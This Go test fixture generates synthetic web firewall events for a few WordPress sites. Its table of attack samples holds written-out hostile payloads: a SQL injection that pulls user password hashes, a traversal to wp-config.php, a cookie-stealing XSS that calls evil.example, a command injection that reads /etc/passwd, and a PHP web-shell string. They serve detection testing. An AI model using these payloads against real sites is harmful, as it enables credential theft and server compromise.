package storetest

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"net/url"
	"slices"
	"time"

	"github.com/qorgan/qorgan/event"
)

// plot is a kind of attack as the rule set reports it.
type plot struct {
	weight   int
	kind     event.Kind
	reason   string
	method   string
	target   string // %s is where the payload goes
	payload  string
	key      string
	variable string
	agent    string
	rules    []event.Match
}

var plots = []plot{
	{weight: 24, method: "GET", target: "/?s=%s", payload: "1' UNION SELECT user_login,user_pass FROM wp_users-- -", key: "s", variable: "ARGS",
		agent: "sqlmap/1.8.4#stable (https://sqlmap.org)", rules: []event.Match{
			{Rule: 942100, Message: "SQL Injection Attack Detected via libinjection", Score: 5, Tags: []string{"attack-sqli", "paranoia-level/1"}},
			{Rule: 942190, Message: "Detects MSSQL code execution and information gathering attempts", Score: 5, Tags: []string{"attack-sqli"}},
			{Rule: 942270, Message: "Looking for basic sql injection. Common attack string for mysql, oracle and others", Score: 5, Tags: []string{"attack-sqli"}}}},
	{weight: 20, method: "GET", target: "/wp-content/plugins/gallery/show.php?img=%s", payload: "../../../../wp-config.php", key: "img", variable: "ARGS",
		agent: "python-requests/2.32.3", rules: []event.Match{
			{Rule: 930100, Message: "Path Traversal Attack (/../) or (/.../)", Score: 5, Tags: []string{"attack-lfi"}},
			{Rule: 930120, Message: "OS File Access Attempt", Score: 5, Tags: []string{"attack-lfi"}}}},
	{weight: 16, method: "POST", target: "/wp-comments-post.php", payload: "<script>fetch('//evil.example/c?'+document.cookie)</script>", key: "comment", variable: "ARGS",
		agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36", rules: []event.Match{
			{Rule: 941100, Message: "XSS Attack Detected via libinjection", Score: 5, Tags: []string{"attack-xss"}},
			{Rule: 941110, Message: "XSS Filter - Category 1: Script Tag Vector", Score: 5, Tags: []string{"attack-xss"}},
			{Rule: 941160, Message: "NoScript XSS InjectionChecker: HTML Injection", Score: 5, Tags: []string{"attack-xss"}}}},
	{weight: 10, method: "POST", target: "/wp-admin/admin-ajax.php?action=%s", payload: "revslider_show_image;cat /etc/passwd", key: "action", variable: "ARGS",
		agent: "curl/8.5.0", rules: []event.Match{
			{Rule: 932230, Message: "Remote Command Execution: Unix Command Injection (2-3 chars)", Score: 5, Tags: []string{"attack-rce"}},
			{Rule: 932160, Message: "Remote Command Execution: Unix Shell Code Found", Score: 5, Tags: []string{"attack-rce"}}}},
	{weight: 8, method: "GET", target: "/index.php?-d+allow_url_include=1&x=%s", payload: "<?php system($_GET['c']); ?>", key: "x", variable: "ARGS",
		agent: "Go-http-client/1.1", rules: []event.Match{
			{Rule: 933100, Message: "PHP Injection Attack: PHP Open Tag Found", Score: 5, Tags: []string{"attack-injection-php"}},
			{Rule: 933150, Message: "PHP Injection Attack: High-Risk PHP Function Name Found", Score: 5, Tags: []string{"attack-injection-php"}}}},
	{weight: 14, kind: event.KindSurface, reason: "backup-file", method: "GET", target: "/wp-config.php.bak", agent: "Mozilla/5.0 zgrab/0.x"},
	{weight: 12, kind: event.KindGuard, reason: "login-rate", method: "POST", target: "/wp-login.php", agent: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
	{weight: 6, method: "GET", target: "/", payload: "nuclei", key: "User-Agent", variable: "REQUEST_HEADERS",
		agent: "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))", rules: []event.Match{
			{Rule: 913100, Message: "Found User-Agent associated with security scanner", Score: 5, Tags: []string{"attack-reputation-scanner"}}}},
	{weight: 4, kind: event.KindProtocol, reason: "multipart-epilogue", method: "POST", target: "/wp-admin/async-upload.php", agent: "python-httpx/0.27.0"},
	{weight: 5, method: "GET", target: "/wp-json/gravitysmtp/v1/tests?key=%s", payload: "1", key: "key", variable: "ARGS",
		agent: "python-requests/2.31.0", rules: []event.Match{
			{Rule: 9800101, Message: "Gravity SMTP before 2.1.5: report of the installation open to everybody", Score: 5, Tags: []string{"virtual-patch", "CVE-2026-4020"}}}},
}

// Story returns n events as a few sites live through them between from and
// to, oldest first: quiet nights, a busy evening, scanners that come back.
// The same seed tells the same story, but for ids and codes.
func Story(n int, from, to time.Time, seed uint64) []event.Event {
	r := rand.New(rand.NewPCG(seed, 1))
	redactor := event.NewRedactor([]byte("a key for the story"))
	sites := []string{"kitap.kz", "kitap.kz", "kitap.kz", "gulder.example.kz", "gulder.example.kz", "mektep-12.edu.kz", "nan.kz"}
	clients := make([]netip.Addr, 60)
	for i := range clients {
		clients[i] = netip.AddrFrom4([4]byte{byte(45 + r.IntN(150)), byte(r.IntN(250)), byte(r.IntN(250)), byte(1 + r.IntN(250))})
		if i%7 == 0 {
			clients[i] = netip.MustParseAddr(fmt.Sprintf("2a02:%x:%x::%x", r.IntN(0xffff), r.IntN(0xffff), 1+r.IntN(0xffff)))
		}
	}
	total := 0
	for _, p := range plots {
		total += p.weight
	}
	burst := from.Add(time.Duration(float64(to.Sub(from)) * 0.71))
	events := make([]event.Event, 0, n)
	for i := range n {
		at := from.Add(time.Duration(float64(to.Sub(from)) * float64(i) / float64(n)))
		for at.Hour() < 7 && r.IntN(4) > 0 { // quiet nights
			at = at.Add(time.Duration(1+r.IntN(11)) * time.Hour)
		}
		at = at.Add(-time.Duration(r.ExpFloat64() * float64(2*time.Hour)))
		if at.After(to) || at.Before(from) {
			at = to.Add(-time.Duration(r.Int64N(int64(to.Sub(from)))))
		}
		if i%7 == 0 { // a part of it falls into three hours
			at = burst.Add(time.Duration(i) * 3 * time.Hour / time.Duration(n))
		}
		at = at.Add(time.Duration(r.IntN(1_000_000)) * time.Microsecond)
		pick := r.IntN(total)
		var p plot
		for _, p = range plots {
			if pick -= p.weight; pick < 0 {
				break
			}
		}
		client := clients[int(r.ExpFloat64()*9)%len(clients)]
		events = append(events, p.event(redactor, at, sites[r.IntN(len(sites))], client, r))
	}
	slices.SortFunc(events, func(a, b event.Event) int { return a.Time.Compare(b.Time) })
	return events
}

func (p plot) event(redactor *event.Redactor, at time.Time, site string, client netip.Addr, r *rand.Rand) event.Event {
	id, code := event.NewID()
	e := event.Event{
		ID: id, Code: code, Time: at.UTC(), Site: site, Kind: p.kind, Action: event.Blocked, Mode: "block", Status: 403,
		Reason: p.reason, Client: event.Client{Addr: client, Peer: client}, Threshold: 5, Level: 1, Profile: "wordpress",
		Judge: time.Duration(200+r.IntN(900)) * time.Microsecond,
	}
	if e.Kind == "" {
		e.Kind = event.KindRule
	}
	if site == "nan.kz" {
		e.Action, e.Mode, e.Status = event.Detected, "detect", 0
	}
	target := p.target
	if p.payload != "" && p.variable == "ARGS" && p.method == "GET" || p.key == "action" {
		target = fmt.Sprintf(target, url.QueryEscape(p.payload))
	}
	request := event.Request{
		Method: p.method, Host: site, Target: target, Proto: "HTTP/1.1",
		Headers: []event.Field{
			{Name: "Host", Value: site}, {Name: "User-Agent", Value: p.agent}, {Name: "Accept", Value: "*/*"},
			{Name: "Accept-Encoding", Value: "gzip, deflate"}, {Name: "Cookie", Value: "wordpress_test_cookie=WP%20Cookie%20check; wp-settings-time-1=1764000000"},
		},
	}
	if p.method == "POST" {
		request.Bytes = int64(80 + r.IntN(3000))
		request.Headers = append(request.Headers, event.Field{Name: "Content-Type", Value: "application/x-www-form-urlencoded"})
	}
	e.Request = redactor.Request(request)
	for _, m := range p.rules {
		m.Variable, m.Key, m.Value, m.Severity, m.Phase = p.variable, p.key, p.payload, "CRITICAL", 2
		m.Data = "Matched Data: " + p.payload + " found within " + p.variable + ":" + p.key + ": " + p.payload
		e.Matches = append(e.Matches, redactor.Match(m))
		e.Rules = append(e.Rules, m.Rule)
		e.Score += m.Score
	}
	return e
}
